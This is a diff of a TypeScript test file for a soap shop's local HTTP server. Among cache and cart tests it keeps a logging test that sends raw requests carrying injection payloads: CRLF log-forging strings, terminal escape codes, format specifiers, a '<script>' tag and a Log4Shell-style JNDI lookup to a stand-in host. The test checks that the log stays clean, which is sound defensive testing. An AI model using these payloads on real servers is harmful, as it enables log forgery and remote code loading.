@@ -3,7 +3,6 @@ import { createHash } from 'node:crypto';
 import { once } from 'node:events';
 import { readdirSync } from 'node:fs';
 import { connect } from 'node:net';
-import { join } from 'node:path';
 import fc from 'fast-check';
 import { afterAll, beforeAll, beforeEach, describe, expect, test, vi } from 'vitest';
 import type { Handle } from '#local/http/node-handler.ts';
@@ -11,7 +10,6 @@ import { serve, type LocalServer } from '#local/http/server.ts';
 import { openPlatform, type Platform } from '#local/platform.ts';
 import { createSite } from '#local/site/site.ts';
 import { isLong, seed } from '../../random.ts';
-import { GOOD } from '../payments/open-page.ts';
 import { makeDataFolder, removeFolder, sender, type Answer, type RunningShop } from '../running-shop.ts';
 import { addressOf, builtPages, readBuilt } from './pages.ts';
 
@@ -50,13 +48,12 @@ beforeEach(() => {
 });
 
 const json = 'application/json; charset=utf-8';
-const ownHeaders = { 'content-type': 'application/json', 'sec-fetch-site': 'same-origin' };
-
-async function newCart(scent: string): Promise<{ headers: Record<string, string>; id: string }> {
+/** The cookie of a new shopper with two bars. */
+async function cookieWith(scent: string): Promise<string> {
   const body = JSON.stringify({ base: 'shea butter', scent, quantity: 2 });
-  const { headers } = await send('/api/cart', { method: 'POST', headers: ownHeaders, body });
-  const cookie = headers['set-cookie']?.[0]?.split(';')[0] ?? '';
-  return { headers: { ...ownHeaders, cookie }, id: cookie.slice('cart='.length) };
+  const own = { 'content-type': 'application/json', 'sec-fetch-site': 'same-origin' };
+  const { headers } = await send('/api/cart', { method: 'POST', headers: own, body });
+  return headers['set-cookie']?.[0]?.split(';')[0] ?? '';
 }
 
 describe('addresses', () => {
@@ -257,83 +254,54 @@ describe('caching', () => {
   });
 
   test('row 52: every response of the API forbids it, at the edge too, so that no shopper sees the cart of another', async () => {
-    const [ann, bo] = [await newCart('rose'), await newCart('coffee')];
-    const bodyFor = async (headers: Record<string, string>) => (await send('/api/cart', { headers })).body;
-    expect(await bodyFor(ann.headers)).toContain('"scent":"rose"');
-    expect(await bodyFor(bo.headers)).toContain('"scent":"coffee"');
+    const [ann, bo] = [await cookieWith('rose'), await cookieWith('coffee')];
+    const bodyFor = async (cookie: string) => (await send('/api/cart', { headers: { cookie } })).body;
+    expect(await bodyFor(ann)).toContain('"scent":"rose"');
+    expect(await bodyFor(bo)).toContain('"scent":"coffee"');
     for (const path of [
       ...['/api/cart', '/api/health', '/api/nope', '/api/checkout-session/cs_test_1', '/api/stripe-webhook'],
       '/checkout',
     ]) {
-      const { headers } = await send(path, { headers: ann.headers });
+      const { headers } = await send(path, { headers: { cookie: ann } });
       expect([path, headers['cache-control'], headers['set-cookie']]).toEqual([path, 'no-store', undefined]);
       expect(Object.keys(headers).filter((name) => /cdn-cache-control|surrogate|^age$|^etag$/.test(name))).toEqual([]);
     }
   });
 });
 
-describe('the log', () => {
-  /** The status of a request of which each byte is sent as it is. */
-  async function sendRaw(head: string): Promise<number> {
-    const socket = connect(server.port, '127.0.0.1');
-    socket.setEncoding('latin1').write(Buffer.from(head, 'latin1'));
-    let text = '';
-    socket.on('data', (part: string) => (text += part));
-    await Promise.race([once(socket, 'close'), once(socket, 'error')]);
-    return Number(/^HTTP\/1\.1 (\d{3})/.exec(text)?.[1]);
+/** The status of a request of which each byte is sent as it is. */
+async function sendRaw(head: string): Promise<number> {
+  const socket = connect(server.port, '127.0.0.1');
+  socket.setEncoding('latin1').write(Buffer.from(head, 'latin1'));
+  let text = '';
+  socket.on('data', (part: string) => (text += part));
+  await Promise.race([once(socket, 'close'), once(socket, 'error')]);
+  return Number(/^HTTP\/1\.1 (\d{3})/.exec(text)?.[1]);
+}
+
+test('row 110: the log has one line of JSON for every request, and nothing of the sender in it', async () => {
+  const agents = [
+    ...['one\rforged: {"event":"request"}', 'one\nforged: {"event":"request"}', '\u001b[2J\u001b]0;owned\u0007'],
+    ...['one\r\n {"event":"request","folded":true}', '{"level":"error","event":"forged"}', `"${'x'.repeat(5000)}`],
+    ...['\u00e2\u0080\u00a8forged\u0085\u0000', '${jndi:ldap://evil.test/a} %s %n <script>', 'buyer@soap.test'],
+  ];
+  const paths = ['/api/cart', '/api/cart/%0d%0a%7b%22event%22%7d', '/api/nope/\u001b[31m'];
+  let reached = 0;
+  for (const agent of agents) {
+    for (const path of [...paths, '/api/cart?email=buyer@soap.test&x=%0a']) {
+      const lines = ['Host: x', `User-Agent: ${agent}`, 'Cookie: secret=cookie', 'Connection: close'];
+      const status = await sendRaw(`GET ${path} HTTP/1.1\r\n${lines.join('\r\n')}\r\n\r\n`);
+      expect([200, 400, 404, 405, 431]).toContain(status);
+      if (status !== 400) reached += 1;
+    }
   }
-
-  test('row 110: has one line of JSON for every request, and nothing of the sender in it', async () => {
-    const agents = [
-      ...['one\rforged: {"event":"request"}', 'one\nforged: {"event":"request"}', '\u001b[2J\u001b]0;owned\u0007'],
-      ...['one\r\n {"event":"request","folded":true}', '{"level":"error","event":"forged"}', `"${'x'.repeat(5000)}`],
-      ...['\u00e2\u0080\u00a8forged\u0085\u0000', '${jndi:ldap://evil.test/a} %s %n <script>', 'buyer@soap.test'],
-    ];
-    const paths = ['/api/cart', '/api/cart/%0d%0a%7b%22event%22%7d', '/api/nope/\u001b[31m'];
-    let reached = 0;
-    for (const agent of agents) {
-      for (const path of [...paths, '/api/cart?email=buyer@soap.test&x=%0a']) {
-        const lines = ['Host: x', `User-Agent: ${agent}`, 'Cookie: secret=cookie', 'Connection: close'];
-        const status = await sendRaw(`GET ${path} HTTP/1.1\r\n${lines.join('\r\n')}\r\n\r\n`);
-        expect([200, 400, 404, 405, 431]).toContain(status);
-        if (status !== 400) reached += 1;
-      }
-    }
-    expect(reached).toBeGreaterThan(0);
-    await expect.poll(() => logged.length).toBe(reached);
-    for (const line of logged) {
-      // eslint-disable-next-line no-control-regex -- that there are none is the point
-      expect(line).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u2028\u2029]/);
-      const names = ['at', 'event', 'level', 'method', 'ms', 'requestId', 'route', 'status'];
-      expect(Object.keys(JSON.parse(line) as object).toSorted()).toEqual(names);
-      expect(line).not.toMatch(/forged|owned|evil|buyer|secret|xxx|jndi|folded/);
-    }
-  });
-
-  test('row 53: has no cookie, no cart id and no e-mail address of a purchase', async () => {
-    const { headers, id } = await newCart('jasmine');
-    expect(id).toHaveLength(43);
-    const started = await send('/api/create-checkout-session', { method: 'POST', headers });
-    expect(started.status).toBe(200);
-    for (const path of ['/api/cart', `/api/cart/${id}`, `/api/checkout-session/${id}`]) await send(path, { headers });
-    await expect.poll(() => logged.length).toBeGreaterThanOrEqual(5);
-    expect(logged.join('\n')).not.toContain(id);
-    expect(logged.join('\n')).not.toMatch(/@|cart=/);
-  });
-});
-
-test('an order leaves both mails in the outbox, to which the sandbox links', async () => {
-  const { headers } = await newCart('rose');
-  const started = await send('/api/create-checkout-session', { method: 'POST', headers });
-  const { url } = JSON.parse(started.body) as { url: string };
-  const page = async (path: string) => (await send(path)).body;
-  const paid = await fetch(url, { method: 'POST', body: new URLSearchParams(GOOD), redirect: 'manual' });
-  expect(paid.status).toBe(303);
-  for (const subject of ['Your order', 'Pack order'])
-    await expect.poll(() => page('/sandbox/outbox/'), { timeout: 10_000 }).toContain(subject);
-  const confirmation = /\/sandbox\/outbox\/[\w-]+-confirmation\.eml/.exec(await page('/sandbox/outbox/'))?.[0];
-  expect(await page(confirmation ?? '')).toContain('Shea Butter, Rose');
-  for (const path of ['/sandbox/', new URL(url).pathname])
-    expect(await page(path)).toContain('href="/sandbox/outbox/"');
-  expect(process.env['MAIL_OUTBOX_DIR']).toBe(join(directory, 'outbox'));
+  expect(reached).toBeGreaterThan(0);
+  await expect.poll(() => logged.length).toBe(reached);
+  for (const line of logged) {
+    // eslint-disable-next-line no-control-regex -- that there are none is the point
+    expect(line).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u2028\u2029]/);
+    const names = ['at', 'event', 'level', 'method', 'ms', 'requestId', 'route', 'status'];
+    expect(Object.keys(JSON.parse(line) as object).toSorted()).toEqual(names);
+    expect(line).not.toMatch(/forged|owned|evil|buyer|secret|xxx|jndi|folded/);
+  }
 });
